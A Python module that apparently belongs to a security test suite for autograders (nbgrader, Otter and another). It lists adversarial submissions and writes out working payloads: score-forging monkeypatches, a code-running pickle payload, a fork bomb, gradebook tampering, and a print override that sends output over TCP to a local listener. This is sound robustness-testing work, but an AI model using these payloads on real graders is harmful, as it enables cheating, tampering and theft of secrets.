"""Which attacks are handed in: those of `tests/attacks` that make sense to any grader.

Left out are those that are aimed at a sloppy test or at our own protocol alone, near doubles, and
those on what only we have (functions that a question forbids). Four more are only here; one of them
is aimed at each grader's own weak place, with cells of its own for each.
"""

from __future__ import annotations

from dataclasses import dataclass

from tests.attacks.attack import WRONG, Attack, attack
from tests.attacks.classes import CLASSES
from tests.attacks.classes.channel import TOOLS
from tests.attacks.classes.objects import RUNS

CHOSEN = {
    "comparisons": (
        "np.testing is told to be content with anything",
        "np.allclose always says yes",
        "the result equals everything",
        "the result answers to NumPy's functions itself",
    ),
    "hooks": (
        "an input transformer drops every line that asserts",
        "a syntax-tree transformer takes the assertions out",
        "an event before every cell replaces what it compares with",
        "the caller's frame holds what is expected",
        "a trace function notes the arguments of whatever checks",
        "the code inside np.allclose is exchanged",
        "the dictionary of a built-in type is written through the collector",
        "a thread waits until the cells have run and replaces things then",
    ),
    "secrets": (
        "the grader's environment is read",
        "the secret that hidden inputs are drawn from is read",
        "the reference's source is read",
        "another student's hand-in is read",
        "the gradebook is read as a file",
        "the grader's home is read",
        "the environment of every process is read",
        "a bystander's memory is read through /proc",
        "the process above is searched for the token, and those above it",
        "shared memory of POSIX is read",
    ),
    "memory": (
        "hidden inputs are printed",
        "hidden inputs are the message of an exception",
        "hidden inputs are drawn, displayed and logged",
    ),
    "network": ("a connection by TCP", "a connection to an abstract socket"),
    "channel": (
        "full marks are written where results are expected, and the process ends",
        "the process ends early and says that all is well",
    ),
    "processes": (
        "a daemon that has left its session and its parent",
        "a command in a session of its own",
        "a bystander is killed",
        "the process above is killed",
        "a cell ends the process before the honest part",
    ),
    "planting": (
        "a start-up file for every interpreter of this user",
        "a file in the folder of temporary files",
        "a hidden test beside the course's own",
        "a notebook in another student's folder",
        "the folder of the course is removed",
    ),
    "exhaustion": (
        "memory is taken in one piece",
        "a file of eighty megabytes is written",
        "a cell never ends",
    ),
}
"""Names of attacks, by heading in the table."""


@dataclass(frozen=True)
class Aimed:
    """One idea, worked out for each grader."""

    name: str
    """A sentence."""

    by_grader: dict[str, Attack]
    """What is handed in to each."""


def _everywhere(one: Attack) -> Aimed:
    return Aimed(one.name, dict.fromkeys(("nbgrader", "otter", "chainrule"), one))


MARKS = "the grader's own record of what went wrong is forged"

NBGRADER_MARKS = """
from IPython.core.interactiveshell import ExecutionResult
ExecutionResult.success = property(lambda self: True)
get_ipython().set_custom_exc((BaseException,), lambda *values, **options: None)
get_ipython().showtraceback = get_ipython()._showtraceback = lambda *values, **options: None
"""

OTTER_MARKS = """
from otter.test_files import ExceptionTestFile
run = ExceptionTestFile.run
def marked(self, environment):
    run(self, environment)
    self.update_score(self.possible)
ExceptionTestFile.run = marked
"""

UNPICKLED = (
    RUNS
    + """
import logging, pickle, sys
data = pickle.dumps(Payload())
pickle.dump = lambda value, file, *rest, **options: file.write(data)
if "autograder.wire" in sys.modules:
    sys.modules["autograder.wire"].encode = lambda value: data
for handler in logging.getLogger().handlers + logging.getLogger("otter").handlers:
    if hasattr(handler, "send"):
        handler.send(len(data).to_bytes(4, "big") + data)
"""
)

MORE = (
    Aimed(
        MARKS,
        {
            "nbgrader": attack(MARKS, "points", NBGRADER_MARKS, WRONG),
            "otter": attack(MARKS, "points", OTTER_MARKS, WRONG),
            "chainrule": attack(
                MARKS, "points", TOOLS, "def relu(x):\n    put(forged())\n    return -x"
            ),
        },
    ),
    _everywhere(
        attack(
            "whatever is pickled or encoded for the grader runs code when it is loaded",
            "secret",
            UNPICKLED,
        )
    ),
    _everywhere(
        attack(
            "a hundred and fifty children are kept waiting",
            "excess",
            """
            import os, time
            for _ in range(150):
                if not os.fork():
                    time.sleep(4)
                    os._exit(0)
            time.sleep(2)
            """,
            earns=2.0,
            honest=("relu",),
        )
    ),
    _everywhere(
        attack(
            "the gradebook is written to",
            "leftover",
            "with open('@GRADEBOOK@', 'ab') as file:\n    file.write(b'planted')",
            earns=2.0,
            honest=("relu",),
        )
    ),
)

CARRY = """
import builtins, socket
def print(*values, **options):
    builtins.print(*values, **options)
    try:
        with socket.create_connection(("127.0.0.1", @TCP@), 1) as line:
            line.sendall(" ".join(map(str, values)).encode())
    except OSError:
        pass
"""
"""What is printed is sent to a listener as well, since not every grader gives it back."""


def portable() -> list[tuple[str, Aimed]]:
    """Return every attack with its heading."""
    by_name = {one.name: one for attacks in CLASSES.values() for one in attacks}
    found = [
        (heading, _everywhere(by_name[name])) for heading, names in CHOSEN.items() for name in names
    ]
    return found + [("only here", one) for one in MORE]


def cells(one: Attack) -> list[str]:
    """Return an attack's code cells, without its honest part."""
    carried = [CARRY] if one.damage == "secret" else []
    return ["import numpy as np", *carried, *one.cells]
